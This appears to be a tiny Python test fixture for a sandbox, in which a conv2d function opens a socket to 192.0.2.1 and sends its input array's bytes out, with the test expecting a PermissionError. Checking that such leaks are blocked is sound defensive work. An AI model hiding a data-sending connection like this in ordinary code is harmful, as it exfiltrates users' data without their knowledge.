"""Leaks the arguments through a connection.

Expected: exception: PermissionError: [Errno 1]
"""

import socket


def conv2d(x, kernel):
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as connection:
        connection.sendall(x.tobytes())
